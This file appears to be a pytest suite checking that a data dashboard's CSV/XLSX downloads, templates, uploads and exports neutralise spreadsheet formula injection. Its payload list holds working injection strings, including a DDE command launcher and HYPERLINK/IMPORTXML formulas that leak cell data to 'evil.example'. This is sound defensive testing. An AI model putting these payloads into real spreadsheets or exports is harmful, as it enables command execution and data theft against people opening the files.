"""Formula injection: a payload corpus through every download path gives 0 live formulas.

Paths: the page downloads (table CSV of every page incl. Submissions, explorer XLSX, report
chart CSV), the upload templates, and the CLI exports (CSV, XLSX, zip, Open SDG, SDMX-CSV).
A CSV cell is live when, after any leading whitespace, it starts with = + - @ (or with tab/CR)
and is not a plain number; an XLSX cell is live when openpyxl reads it as a formula.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from core.config import PROJECT_ROOT
from core.errors import EtlError
from dashboard.data import progress as progress_data
from etl.exports import safe_write
from etl.exports.opensdg import export_opensdg
from etl.exports.sdmx import export_sdmx
from etl.exports.tables import export_files, export_zip
from etl.uploads.read import read_upload
from etl.uploads.template_files import template_csv, template_names, template_xlsx
from tests.etl.exports.test_roundtrip import hand_table

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "\t=1+2",
    "\r=1+2",
    " =1+2",
    "   @SUM(A1)",
    "\u00a0=1+2",  # no-break space
    "\n=1+2",
    "'=1+2",
    "''=1+2",
    "-",
    "=",
)
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def is_live(cell: str) -> bool:
    """True if a spreadsheet opening this CSV cell would run it as a formula."""
    if NUMBER.match(cell.strip()):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def live_csv_cells(data: bytes) -> list[str]:
    """Every live cell of a CSV file (header included)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if is_live(cell)]


def live_xlsx_cells(data: bytes) -> list[str]:
    """Every formula cell, or text cell that would be one, of every sheet of an XLSX file."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and is_live(c.value)):
                    out.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    return out


def payload_frame() -> pl.DataFrame:
    """A text table holding every payload, in the cells and in a column name."""
    return pl.DataFrame(
        {"country": ["KEN"] * len(PAYLOADS), "note": list(PAYLOADS), "=evil()": list(PAYLOADS)}
    ).with_columns(value=pl.Series([-1.5] * len(PAYLOADS)))


def payload_table() -> pl.DataFrame:
    """Contract rows (the indicator table) with a payload in every text a user can set."""
    base = hand_table()
    copies = []
    for i, p in enumerate(PAYLOADS):
        copies.append(
            base.with_columns(
                comment_obs=pl.lit(p),
                source=pl.lit(p),
                source_url=pl.lit(p),
                time_period=pl.col("time_period").str.replace(r"^\d{4}", str(1990 + i)),
            )
        )
    return pl.concat(copies)


def test_corpus_is_live_unguarded() -> None:
    """The check can fail: every payload, written raw, is live (except the guarded ones)."""
    raw = pl.DataFrame({"note": list(PAYLOADS)}).write_csv().encode()
    live = set(live_csv_cells(raw))
    assert live == {p for p in PAYLOADS if not p.startswith("'")}


def test_page_table_csv_has_no_live_cell() -> None:
    """widgets.render_download (every page's table CSV, incl. Submissions) writes this."""
    data = safe_write.csv_bytes(payload_frame())
    assert live_csv_cells(data) == []
    assert data.count(b"-1.5") == len(PAYLOADS)  # numbers untouched


def test_categorical_text_is_guarded_too() -> None:
    frame = payload_frame().with_columns(pl.col("note").cast(pl.Categorical))
    assert live_csv_cells(safe_write.csv_bytes(frame)) == []


def test_report_chart_csv_has_no_live_cell() -> None:
    assert live_csv_cells(safe_write.csv_text(payload_frame()).encode()) == []


def test_explorer_xlsx_has_no_formula() -> None:
    data = progress_data.xlsx_bytes(payload_frame(), "SI_RMT_COST")
    assert live_xlsx_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data))["SI_RMT_COST"]
    assert ws["D2"].value == -1.5 and ws["D2"].data_type == "n"
    assert ws["B2"].value == "'=cmd|' /C calc'!A0" and ws["B2"].data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_exports_have_no_live_cell(fmt: str) -> None:
    files = export_files(payload_table(), fmt)
    assert files
    for name, data in files.items():
        live = live_csv_cells(data) if fmt == "csv" else live_xlsx_cells(data)
        assert live == [], name
    if fmt == "csv":  # the payloads are in the files, guarded (not dropped)
        assert b"'=cmd|' /C calc'!A0" in files["data_10-c-1.csv"]


def test_export_zip_has_no_live_cell() -> None:
    with zipfile.ZipFile(io.BytesIO(export_zip(payload_table()))) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                assert live_csv_cells(zf.read(name)) == [], name


def test_open_sdg_and_sdmx_exports_have_no_live_cell() -> None:
    table = payload_table()
    for name, data in export_opensdg(table, "GBR").files.items():
        if name.endswith(".csv"):
            assert live_csv_cells(data) == [], name
    for version in ("1.0", "2.0"):
        sdmx = export_sdmx(table, version=version)
        assert sdmx.rows > 0
        assert live_csv_cells(sdmx.data) == []
        assert b"'@SUM(1+1)*cmd|' /C calc'!A0" in sdmx.data


@pytest.mark.parametrize("name", template_names())
def test_templates_have_no_live_cell(name: str) -> None:
    assert live_csv_cells(template_csv(name)) == []
    assert live_xlsx_cells(template_xlsx(name)) == []


def test_workbook_with_a_formula_is_refused() -> None:
    """The last gate: a writer that skipped the guard cannot ship a formula cell."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["=1+2"])
    with pytest.raises(EtlError, match="holds a formula cell"):
        safe_write.save_workbook(wb)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_upload_reader_keeps_the_guard(fmt: str) -> None:
    """No uploaded text is stored as a live formula, whatever quote or space precedes it."""
    if fmt == "csv":
        data = pl.DataFrame({"answer_text": list(PAYLOADS)}).write_csv().encode()
    else:
        wb = openpyxl.Workbook(write_only=True)
        ws = wb.create_sheet("data")
        ws.append(["answer_text"])
        for p in PAYLOADS:
            cell = openpyxl.cell.WriteOnlyCell(ws, value=p)
            cell.data_type = "s"  # text cells, as a user typing '=1+2 gets
            ws.append([cell])
        buf = io.BytesIO()
        wb.save(buf)
        data = buf.getvalue()
    stored = read_upload(data, f"payloads.{fmt}", max_bytes=10**6).df["answer_text"]
    live = [v for v in stored.drop_nulls().to_list() if is_live(v)]
    assert live == []
    assert stored.to_list()[:2] == ["'=cmd|' /C calc'!A0", "'=1+2"]
    assert "'=1+2" in stored.to_list()[13:15]  # the guarded forms stay guarded


DOWNLOAD_DATA_OK = re.compile(
    r"safe_write\.|template_csv|template_xlsx|progress_data\.xlsx_bytes|chart\.csv|ready\[1\]"
)


def test_every_download_button_uses_the_safe_writer() -> None:
    """Each st.download_button in dashboard/ gets its bytes from a guarded writer.

    `chart.csv` is written by safe_write.csv_text (dashboard/report/content.py) and `ready[1]`
    is the generated DOCX/PDF report (no spreadsheet cells).
    """
    found = 0
    for path in sorted((PROJECT_ROOT / "dashboard").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("download_button"):
                data = next((k.value for k in node.keywords if k.arg == "data"), None)
                assert data is not None, f"{path}:{node.lineno}"
                text = ast.unparse(data)
                assert DOWNLOAD_DATA_OK.search(text), f"{path}:{node.lineno} data={text}"
                found += 1
    assert found >= 6


def test_no_spreadsheet_writer_bypasses_safe_write() -> None:
    """No raw polars write_csv or openpyxl save in the modules that produce downloads."""
    modules = [
        *(PROJECT_ROOT / "dashboard").rglob("*.py"),
        *(p for p in (PROJECT_ROOT / "etl" / "exports").rglob("*.py") if p.name != "safe_write.py"),
        PROJECT_ROOT / "etl" / "uploads" / "template_files.py",
    ]
    for path in modules:
        text = Path(path).read_text(encoding="utf-8")
        assert ".write_csv(" not in text, path
        assert "wb.save(" not in text, path
